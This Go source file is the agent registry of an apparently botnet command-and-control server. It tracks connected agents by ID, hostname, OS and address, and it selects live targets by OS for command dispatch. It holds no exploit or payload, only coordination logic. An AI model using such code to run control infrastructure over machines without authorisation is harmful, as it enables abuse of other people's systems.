// Package registry is the commander's in-memory agent inventory. It tracks
// every agent the commander has ever persisted plus, for the connected subset,
// the session writer used to reach it. The dispatch engine freezes its target
// set from here; the HTTP layer answers counts and liveness from here.
package registry

import (
	"sync"
	"time"

	"go.uber.org/zap"

	"github.com/rpcyber/botnet-commander/internal/metrics"
	"github.com/rpcyber/botnet-commander/internal/protocol"
)

// Identity is what the commander knows about an agent independent of any
// connection.
type Identity struct {
	ID       string
	Hostname string
	OS       string
	Addr     string
}

// Writer delivers frames to one connected agent. Implemented by the session's
// Framer; writes on it are already serialized per session.
type Writer interface {
	WriteFrame(msg protocol.Message, timeout time.Duration) error
	Close() error
}

// Outcome classifies what an Attach did to the inventory.
type Outcome int

const (
	// AgentNew means the agent was never seen before and must be inserted.
	AgentNew Outcome = iota
	// AgentRefreshed means the agent was already known; Changed reports
	// whether its hostname or address moved since last time.
	AgentRefreshed
)

// Target pairs an agent id with its live session writer, frozen at dispatch
// time.
type Target struct {
	ID     string
	Writer Writer
}

type entry struct {
	identity Identity
	writer   Writer
}

// Registry is safe for concurrent use by sessions, the dispatcher, and the
// HTTP layer.
type Registry struct {
	mu      sync.RWMutex
	agents  map[string]*entry
	log     *zap.Logger
	metrics *metrics.Metrics
}

// New creates an empty registry.
func New(log *zap.Logger, m *metrics.Metrics) *Registry {
	return &Registry{
		agents:  make(map[string]*entry),
		log:     log.Named("registry"),
		metrics: m,
	}
}

// Warm preloads identities persisted by a previous run. None of them is live;
// they exist so counts and history resolve before the agents reconnect.
func (r *Registry) Warm(ids []Identity) {
	r.mu.Lock()
	defer r.mu.Unlock()
	for _, id := range ids {
		if _, ok := r.agents[id.ID]; ok {
			continue
		}
		r.agents[id.ID] = &entry{identity: id}
	}
	r.log.Info("warm-loaded known agents", zap.Int("count", len(ids)))
}

// Attach records a freshly identified session. The returned outcome says
// whether the agent is brand new; changed reports whether a known agent came
// back with a different hostname or address. Any previous writer for the same
// id is closed — the newest session wins.
func (r *Registry) Attach(id Identity, w Writer) (outcome Outcome, changed bool) {
	r.mu.Lock()
	prev, known := r.agents[id.ID]

	var stale Writer
	if known {
		outcome = AgentRefreshed
		changed = prev.identity.Hostname != id.Hostname || prev.identity.Addr != id.Addr
		stale = prev.writer
		if stale == nil {
			r.metrics.ConnectedAgents.WithLabelValues(id.OS).Inc()
		} else if prev.identity.OS != id.OS {
			r.metrics.ConnectedAgents.WithLabelValues(prev.identity.OS).Dec()
			r.metrics.ConnectedAgents.WithLabelValues(id.OS).Inc()
		}
		prev.identity = id
		prev.writer = w
	} else {
		outcome = AgentNew
		r.agents[id.ID] = &entry{identity: id, writer: w}
		r.metrics.ConnectedAgents.WithLabelValues(id.OS).Inc()
	}
	r.mu.Unlock()

	if stale != nil && stale != w {
		stale.Close()
	}
	return outcome, changed
}

// Detach drops the live writer for id, but only if w is still the current
// one — a session tearing down late must not clobber its replacement. The
// identity stays in the inventory.
func (r *Registry) Detach(id string, w Writer) {
	r.mu.Lock()
	defer r.mu.Unlock()
	e, ok := r.agents[id]
	if !ok || e.writer == nil || e.writer != w {
		return
	}
	e.writer = nil
	r.metrics.ConnectedAgents.WithLabelValues(e.identity.OS).Dec()
}

// Evict removes the given agents entirely, closing any live sessions. Used
// when agents are deleted through the control plane.
func (r *Registry) Evict(ids []string) {
	var closers []Writer
	r.mu.Lock()
	for _, id := range ids {
		e, ok := r.agents[id]
		if !ok {
			continue
		}
		if e.writer != nil {
			closers = append(closers, e.writer)
			r.metrics.ConnectedAgents.WithLabelValues(e.identity.OS).Dec()
		}
		delete(r.agents, id)
	}
	r.mu.Unlock()

	for _, w := range closers {
		w.Close()
	}
	if len(ids) > 0 {
		r.log.Info("evicted agents", zap.Int("count", len(ids)))
	}
}

// Targets freezes the set of live agents matching entity ("*" or one id) and
// osFilter ("*" or an OS name). The snapshot is what a dispatch iterates over;
// sessions attached after the freeze are not included.
func (r *Registry) Targets(entity, osFilter string) []Target {
	r.mu.RLock()
	defer r.mu.RUnlock()

	if entity != "*" {
		e, ok := r.agents[entity]
		if !ok || e.writer == nil || !osMatches(e.identity.OS, osFilter) {
			return nil
		}
		return []Target{{ID: entity, Writer: e.writer}}
	}

	targets := make([]Target, 0, len(r.agents))
	for id, e := range r.agents {
		if e.writer == nil || !osMatches(e.identity.OS, osFilter) {
			continue
		}
		targets = append(targets, Target{ID: id, Writer: e.writer})
	}
	return targets
}

// CountLive returns the number of connected agents matching osFilter.
func (r *Registry) CountLive(osFilter string) int {
	r.mu.RLock()
	defer r.mu.RUnlock()
	n := 0
	for _, e := range r.agents {
		if e.writer != nil && osMatches(e.identity.OS, osFilter) {
			n++
		}
	}
	return n
}

// LiveIDs returns the ids of all connected agents matching osFilter.
func (r *Registry) LiveIDs(osFilter string) []string {
	r.mu.RLock()
	defer r.mu.RUnlock()
	ids := make([]string, 0, len(r.agents))
	for id, e := range r.agents {
		if e.writer != nil && osMatches(e.identity.OS, osFilter) {
			ids = append(ids, id)
		}
	}
	return ids
}

// Lookup returns the recorded identity for id.
func (r *Registry) Lookup(id string) (Identity, bool) {
	r.mu.RLock()
	defer r.mu.RUnlock()
	e, ok := r.agents[id]
	if !ok {
		return Identity{}, false
	}
	return e.identity, true
}

// Known reports whether id exists in the inventory, connected or not.
func (r *Registry) Known(id string) bool {
	r.mu.RLock()
	defer r.mu.RUnlock()
	_, ok := r.agents[id]
	return ok
}

func osMatches(os, filter string) bool {
	return filter == "*" || os == filter
}
